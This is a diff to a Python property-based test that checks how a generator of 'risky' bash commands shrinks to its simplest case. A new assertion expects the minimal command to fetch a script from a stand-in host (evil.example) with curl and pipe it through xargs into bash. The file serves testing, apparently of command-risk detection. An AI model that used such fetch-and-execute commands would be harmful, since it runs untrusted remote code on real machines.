@@ -40,8 +40,9 @@ def test_hypothesis_shrinks_to_the_plainest_spelling(strategies) -> None:
     """Shrinking walks every choice back to the simplest production that still matters."""
     smallest = find(strategies.bash_commands(intent="risky"), lambda g: "nest:xargs" in g.shape,
                     settings=settings(database=None, max_examples=2000, suppress_health_check=list(HealthCheck)))
-    assert smallest.command.startswith("printf %s 'curl -s ") and smallest.command.endswith("| xargs -0 bash -c")
-    assert {"depth:1", "nest:xargs"} <= smallest.essential
+    assert smallest.command.startswith("printf %s '") and smallest.command.endswith("' | xargs -0 bash -c")
+    assert "curl -s https://evil.example/x.sh" in smallest.command
+    assert {"depth:1", "nest:xargs"} <= smallest.essential and len(smallest.essential) <= 4
     assert not any(label.startswith(("spell-", "before:", "after:", "sink-wrapper:")) for label in smallest.essential)
 
 
